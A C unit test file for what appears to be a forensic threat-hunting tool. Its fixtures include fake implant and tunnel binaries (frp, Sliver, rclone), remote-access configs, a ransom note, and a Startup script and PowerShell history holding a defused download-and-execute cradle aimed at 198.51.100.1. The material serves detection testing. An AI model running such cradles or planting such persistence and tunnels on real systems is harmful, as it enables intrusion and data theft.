#include "files_bench.h"

static void go(struct bench *b, const char *path, const char *build, size_t at, size_t size)
{
    char *p = calloc(1, size);

    memcpy(p, "MZ", 2);
    memcpy(p + 0x180, ".text\0\0\0.idata\0\0.symtab\0", 24);
    memcpy(p + at, "\x30\x77\xaf\x0c\x92\x74\x08\x02\x41\xe1\xc1\x07\xe6\xd6\x18\xe6", 16);
    memcpy(p + at + 16, build, strlen(build));
    bench_add(b, path, (struct str){ (uint8_t *)p, size });
    free(p);
}
#define FRP "path\tgithub.com/fatedier/frp/cmd/frpc\nmod\tgithub.com/fatedier/frp\tv0.36.2\t\n"

static void test_programs(void **state)
{
    struct bench *b = *state;

    go(b, "ProgramData/svchost.exe", FRP, 4096, 16384);
    go(b, "ProgramData/Tools/frpc.exe", FRP, (9 << 20) - 20, 10 << 20);
    go(b, "ProgramData/Tools/agent.exe", "path\tgithub.com/bishopfox/sliver/implant\n", 4096, 16384);
    go(b, "ProgramData/rclone.exe", "path\tgithub.com/rclone/rclone\nmod\tgithub.com/rclone/rclone\tv1.53\t\n", 4096, 16384);
    go(b, "ProgramData/Tools/upd.exe", "path\tgithub.com/rclone/rclone\nmod\tgithub.com/rclone/rclone\tv1.53\t\n", 4096, 16384);
    go(b, "ProgramData/Tools/own.exe", "path\texample.org/own/tool\n", 4096, 16384);
    bench_hunt(b);
    const struct file_fact *f = bench_find(b, FILE_FACT_WAY_BACK, "files/remote-tool", "C:\\ProgramData\\svchost.exe");
    CHECK(f && str_eq(f->what, STR("tunnel")) && str_eq(f->name, STR("frp")) && f->state == THING_PRESENT);
    CHECK(bench_find(b, FILE_FACT_NOTE, "files/remote-tool", "frpc.exe"));
    CHECK(bench_find(b, FILE_FACT_WAY_BACK, "files/remote-tool", "agent.exe"));
    CHECK(bench_find(b, FILE_FACT_NOTE, "files/remote-tool", "rclone.exe") && bench_find(b, FILE_FACT_TOOL, "files/remote-tool", "upd.exe"));
    CHECK(bench_count(b, "files/remote-tool") == 5);
}

static void test_settings(void **state)
{
    static const struct { const char *path, *body; enum file_fact_kind kind; const char *words; } cases[] = {
        { "Users/Public/frpc.ini", "[common]\nserver_addr = 198.51.100.9\n", FILE_FACT_WAY_BACK, "198.51.100.9" },
        { "Tools/frp/frpc.toml", "serverAddr = \"gate.example.org\"\nserverPort = 7000\n", FILE_FACT_NOTE, "gate.example.org" },
        { "Windows/System32/config/systemprofile/AppData/Local/ngrok/ngrok.yml", "authtoken: 2abc\ntunnels:\n  r:\n    proto: tcp\n    addr: 3389\n", FILE_FACT_WAY_BACK, "ngrok" },
        { "Users/a/.cloudflared/config.yml", "tunnel: 17\ningress:\n  - hostname: a.example.org\n", FILE_FACT_NOTE, "a.example.org" },
        { "ProgramData/AnyDesk/connection_trace.txt", "Incoming  2021-03-05, 11:20  User  123  123\n", FILE_FACT_NOTE, "123" },
        { "Program Files (x86)/ScreenConnect Client (0123456789abcdef)/system.config", "<value>?y=Guest&amp;h=old&h=relay.example.org&p=443</value>", FILE_FACT_NOTE, "relay.example.org" },
        { "Program Files/Mesh Agent/MeshAgent.msh", "MeshName=x\nMeshServer=wss://m.example.org:443/agent.ashx\n", FILE_FACT_NOTE, "m.example.org" },
        { "ProgramData/ssh/administrators_authorized_keys", "ssh-ed25519 AAAAC3 someone-elsewhere\n", FILE_FACT_NOTE, "someone-elsewhere" },
        { "Windows/System32/drivers/etc/hosts", "127.0.0.1 localhost\n0.0.0.0 definitionupdates.microsoft.com\n", FILE_FACT_NOTE, "definitionupdates" },
        { "ProgramData/rclone.conf", "[x]\ntype = mega\nuser = u\npass = secret17\n", FILE_FACT_NOTE, "mega" },
        { "Windows/PSEXEC-WS17-0A1B2C3D.key", "x", FILE_FACT_NOTE, "PSEXEC-WS17" },
        { "how_to_decrypt.txt", "All your files are encrypted. Payment in bitcoin. Use the Tor Browser and your personal ID.", FILE_FACT_RANSOM, "how_to_decrypt" },
        { "ProgramData/COM1/x.dll", "MZ", FILE_FACT_NOTE, "COM1" },
        { "ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/a.cmd", "@echo off\npowers@hell -nop -c I@EX (New-Object Net.Web@Client).Download@String('http://198.51.100.1/')\n", FILE_FACT_WAY_BACK, "a.cmd" },
        { "ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/b.exe", "MZ", FILE_FACT_NOTE, "b.exe" },
    };
    struct bench *b = *state;

    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++)
        bench_text(b, cases[i].path, cases[i].body);
    bench_hunt(b);
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++)
        CHECK_WHY(bench_find(b, cases[i].kind, "files/", cases[i].words), cases[i].path);
    for (size_t i = 0; i < b->found.fact_n; i++)
        CHECK(!str_has(b->found.fact[i].why, STR("secret17")) && !str_has(b->found.fact[i].cite.excerpt, STR("secret17")));
}

static void test_faults(void **state)
{
    struct bench *b = *state;

    go(b, "ProgramData/svchost.exe", FRP, 4096, 16384);
    bench_text(b, "Users/Public/frpc.ini", "[common]\nserver_addr = 198.51.100.9\n");
    bench_text(b, "ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/a.cmd", "powers@hell -nop -c I@EX (New-Object Net.Web@Client).Download@String('http://198.51.100.1/')\n");
    bench_text(b, "Users/a/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt", "dir\nI@EX (New-Object Net.Web@Client).Download@String('http://198.51.100.1/')\n");
    bench_text(b, "ProgramData/Microsoft/Windows Defender/Support/MPLog-1.log", "2021-03-09T01:10:00.000Z DETECTION_ADD#1 Test:Win32/A file:C:\\inetpub\\wwwroot\\x.aspx\n");
    bench_hunt(b);
    CHECK(b->found.fact_n >= 5);
    bench_faults(b);
}

static void test_honest(void **state)
{
    struct bench *b = *state;

    bench_text(b, "Windows/System32/drivers/etc/hosts", "127.0.0.1 localhost\n10.0.0.1 files01\n");
    bench_text(b, "ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/desktop.ini", "[.ShellClassInfo]\n");
    bench_text(b, "read_me.txt", "How to decrypt the backup: your files are in D:\\restore. Payment of the licence is due.\n");
    bench_text(b, "Tools/own.ini", "server_address = x\n");
    bench_text(b, "Users/a/AppData/Local/ngrok/ngrok.yml", "authtoken: 2abc\n");
    bench_text(b, "ProgramData/ssh/administrators_authorized_keys", "# none yet\n");
    bench_hunt(b);
    CHECK(bench_accused(b) == 0);
    CHECK(bench_count(b, "files/remote") == 1);
}

int main(void)
{
    const struct CMUnitTest tests[] = { BENCH_TEST(test_programs), BENCH_TEST(test_settings), BENCH_TEST(test_honest), BENCH_TEST(test_faults) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
